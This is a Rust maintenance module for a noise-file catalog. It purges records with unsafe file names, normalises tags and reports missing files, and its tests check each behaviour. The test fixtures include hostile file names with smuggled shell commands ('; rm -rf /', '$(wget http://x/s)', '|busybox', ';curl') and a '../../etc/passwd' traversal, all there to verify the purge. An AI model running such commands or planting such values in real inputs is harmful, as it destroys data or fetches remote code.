//! Catalog maintenance: purge unsafe records, reconcile tags, report
//! missing files.
//!
//! The path validator only guards the ffmpeg call.  Records whose
//! `fileName` carries shell metacharacters or fetch-tool names are removed
//! here so they never linger in the catalog.

use std::path::Path;

use serde::Serialize;

use crate::audio::is_safe_file_name;

use super::record::{normalize_tags, NoiseRecord};
use super::repository::{NoiseRepository, RepositoryError};

/// A record whose backing file was not found.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct MissingFile {
    pub id: String,
    pub name: String,
    pub file_name: String,
}

/// Outcome of [`reconcile_catalog`].
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct CatalogReport {
    /// Records examined after the purge.
    pub checked: usize,
    /// Records whose tags were rewritten.
    pub tags_updated: usize,
    pub missing_files: Vec<MissingFile>,
    /// Ids of records deleted for an unsafe file name.
    pub purged: Vec<String>,
}

/// Delete every record whose `fileName` fails [`is_safe_file_name`].
///
/// Returns the deleted records.
pub async fn purge_unsafe_records(
    repository: &dyn NoiseRepository,
) -> Result<Vec<NoiseRecord>, RepositoryError> {
    let mut purged = Vec::new();
    for record in repository.list().await? {
        if is_safe_file_name(&record.file_name) {
            continue;
        }
        let preview: String = record.file_name.chars().take(100).collect();
        log::warn!("maintenance: purging record {} (fileName {preview:?})", record.id);
        repository.delete_by_id(&record.id).await?;
        purged.push(record);
    }
    if purged.is_empty() {
        log::info!("maintenance: no unsafe records found");
    } else {
        log::info!("maintenance: purged {} unsafe records", purged.len());
    }
    Ok(purged)
}

/// Purge unsafe records, normalise tags and list records with missing
/// files.  Missing files are reported, not deleted; the selector removes
/// those lazily.
pub async fn reconcile_catalog(
    repository: &dyn NoiseRepository,
    asset_dir: &Path,
) -> Result<CatalogReport, RepositoryError> {
    let purged = purge_unsafe_records(repository).await?;
    let mut report = CatalogReport {
        purged: purged.into_iter().map(|r| r.id).collect(),
        ..CatalogReport::default()
    };

    for record in repository.list().await? {
        report.checked += 1;

        let path = asset_dir.join(&record.file_name);
        if !tokio::fs::try_exists(&path).await.unwrap_or(false) {
            report.missing_files.push(MissingFile {
                id: record.id.clone(),
                name: record.name.clone(),
                file_name: record.file_name.clone(),
            });
        }

        let normalized = normalize_tags(&record.tags);
        if normalized != record.tags {
            repository.set_tags(&record.id, normalized).await?;
            report.tags_updated += 1;
        }
    }

    log::info!(
        "maintenance: checked {}, tags updated {}, missing files {}",
        report.checked,
        report.tags_updated,
        report.missing_files.len()
    );
    Ok(report)
}

// ---------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::tempdir;

    use crate::noise::repository::InMemoryNoiseRepository;

    fn raw_record(name: &str, file_name: &str, tags: &[&str]) -> NoiseRecord {
        // Bypass NoiseRecord::new so tags stay exactly as given.
        let mut r = NoiseRecord::new(name, file_name, &[], None);
        r.tags = tags.iter().map(|t| t.to_string()).collect();
        r
    }

    #[tokio::test]
    async fn purges_injected_file_names() {
        let good = raw_record("good", "noise_ab12.ogg", &["rain"]);
        let repo = InMemoryNoiseRepository::with_records(vec![
            good.clone(),
            raw_record("e1", "noise_x; rm -rf /.ogg", &["rain"]),
            raw_record("e2", "$(wget http://x/s)", &[]),
            raw_record("e3", "a|busybox", &[]),
            raw_record("e4", "../../etc/passwd", &[]),
        ]);

        let purged = purge_unsafe_records(&repo).await.unwrap();
        assert_eq!(purged.len(), 4);
        assert_eq!(repo.list().await.unwrap(), vec![good]);
    }

    #[tokio::test]
    async fn reconcile_normalises_tags_and_reports_missing() {
        let dir = tempdir().unwrap();
        std::fs::write(dir.path().join("noise_a.ogg"), b"OggS").unwrap();

        let a = raw_record("a", "noise_a.ogg", &["Rain ", "rain", "Night"]);
        let b = raw_record("b", "noise_b.ogg", &["cafe"]);
        let a_id = a.id.clone();
        let b_id = b.id.clone();
        let repo = InMemoryNoiseRepository::with_records(vec![
            a,
            b,
            raw_record("evil", "x;curl", &[]),
        ]);

        let report = reconcile_catalog(&repo, dir.path()).await.unwrap();

        assert_eq!(report.checked, 2);
        assert_eq!(report.tags_updated, 1);
        assert_eq!(report.purged.len(), 1);
        assert_eq!(report.missing_files.len(), 1);
        assert_eq!(report.missing_files[0].id, b_id);

        let all = repo.list().await.unwrap();
        let a_now = all.iter().find(|r| r.id == a_id).unwrap();
        assert_eq!(a_now.tags, ["rain", "night"]);
        // Missing files are only reported.
        assert!(all.iter().any(|r| r.id == b_id));
    }

    #[tokio::test]
    async fn report_serialises_camel_case() {
        let report = CatalogReport {
            checked: 1,
            ..CatalogReport::default()
        };
        let json = serde_json::to_string(&report).unwrap();
        assert!(json.contains("\"tagsUpdated\":0"));
        assert!(json.contains("\"missingFiles\":[]"));
    }
}
